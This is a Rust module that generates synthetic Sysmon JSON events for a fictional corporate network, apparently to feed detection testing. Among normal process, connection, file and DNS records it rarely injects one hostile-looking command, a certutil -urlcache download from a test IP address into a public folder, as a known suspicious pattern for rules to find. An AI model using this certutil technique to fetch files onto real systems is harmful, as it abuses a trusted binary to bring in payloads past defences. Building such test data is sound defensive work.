//! Sysmon's records as JSON: processes, connections, files and names of ordinary workplaces.

use serde_json::{Value, json};

use super::random::Random;

/// Image, a command line that it is ordinarily started with, and what starts it.
const PROGRAMS: [(&str, &str, &str); 5] = [
    (
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        r#""C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc -childID"#,
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#,
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\svchost.exe -k netsvcs -p -s",
        r"C:\Windows\System32\services.exe",
    ),
    (
        r"C:\Windows\System32\notepad.exe",
        r#""C:\Windows\System32\notepad.exe" C:\Users\Public\notes"#,
        r"C:\Windows\explorer.exe",
    ),
    (
        r"C:\Windows\System32\SearchIndexer.exe",
        r"C:\Windows\System32\SearchIndexer.exe /Embedding",
        r"C:\Windows\System32\services.exe",
    ),
];

const NAMES: [&str; 4] =
    ["www.example.com", "cdn.example.net", "mail.corp.test", "files.corp.test"];

/// The one among them that goes out.
const BROWSER: &str = PROGRAMS[0].0;

/// What no workplace does by itself, and rules of ours and of others look for.
const DOWNLOAD: (&str, &str, &str) = (
    r"C:\Windows\System32\certutil.exe",
    r"certutil.exe -urlcache -split -f http://198.18.1.1/a.txt C:\Users\Public\a.txt",
    r"C:\Windows\System32\cmd.exe",
);

/// One record in a thousand of all sources is such a download; four tenths of all are Sysmon's.
const DOWNLOAD_ONE_IN: u64 = 400;

pub(super) fn line(random: &mut Random, time: &str) -> String {
    let is_download = random.below(DOWNLOAD_ONE_IN) == 0;
    let (program, command, parent) = if is_download { DOWNLOAD } else { random.pick(&PROGRAMS) };
    let user = format!("CORP\\user{:02}", random.below(60));
    let (id, image, mut data) = match random.below(10) {
        _ if is_download => (1, program, process(random, command, parent, &user)),
        0..4 => (1, program, process(random, command, parent, &user)),
        4..7 => (3, BROWSER, connection(random)),
        7..9 => (11, program, file(random)),
        _ => (22, BROWSER, name(random)),
    };
    if let Some(data) = data.as_object_mut() {
        data.insert("UtcTime".to_owned(), time.replace('T', " ").into());
        data.insert("ProcessGuid".to_owned(), random.guid().into());
        data.insert("ProcessId".to_owned(), random.between(400, 30_000).into());
        data.insert("Image".to_owned(), image.into());
        data.insert("User".to_owned(), user.into());
    }
    let attributes = |value: Value| json!({ "#attributes": value });
    let provider = json!({
        "Name": "Microsoft-Windows-Sysmon", "Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
    });
    json!({ "Event": {
        "System": {
            "Provider": attributes(provider), "EventID": id, "Version": 5, "Level": 4, "Task": id,
            "Opcode": 0, "Keywords": "0x8000000000000000",
            "TimeCreated": attributes(json!({ "SystemTime": time })),
            "EventRecordID": random.below(1 << 30), "Correlation": null,
            "Execution": attributes(json!({ "ProcessID": 2_804, "ThreadID": 3_916 })),
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": format!("ws-{:03}.corp.test", random.below(400)),
            "Security": attributes(json!({ "UserID": "S-1-5-18" })),
        },
        "EventData": data,
    }})
    .to_string()
}

fn process(random: &mut Random, command: &str, parent: &str, user: &str) -> Value {
    json!({
        "RuleName": "-", "FileVersion": "10.0.26100.1", "Description": "-", "Product": "-",
        "Company": "-", "OriginalFileName": "-", "CurrentDirectory": r"C:\Windows\System32\",
        "CommandLine": format!("{command} {}", random.below(100_000)),
        "LogonGuid": random.guid(), "LogonId": "0x3e7a1", "TerminalSessionId": 1,
        "IntegrityLevel": "Medium", "Hashes": format!("SHA256={}", random.hex(64)),
        "ParentProcessGuid": random.guid(), "ParentProcessId": random.between(400, 30_000),
        "ParentImage": parent, "ParentCommandLine": parent,
        "ParentUser": user,
    })
}

fn connection(random: &mut Random) -> Value {
    json!({
        "RuleName": "-", "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false",
        "SourceIp": random.inside(), "SourceHostname": "-", "SourcePort": random.port(),
        "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": random.outside(),
        "DestinationHostname": random.pick(&NAMES), "DestinationPort": 443,
        "DestinationPortName": "https",
    })
}

fn file(random: &mut Random) -> Value {
    json!({
        "RuleName": "-",
        "TargetFilename": format!(r"C:\Users\user{:02}\Documents\report-{}.docx", random.below(60), random.below(100_000)),
        "CreationUtcTime": "2025-12-01 08:00:00.000",
    })
}

fn name(random: &mut Random) -> Value {
    json!({
        "RuleName": "-", "QueryName": random.pick(&NAMES), "QueryStatus": "0",
        "QueryResults": format!("{};", random.outside()),
    })
}
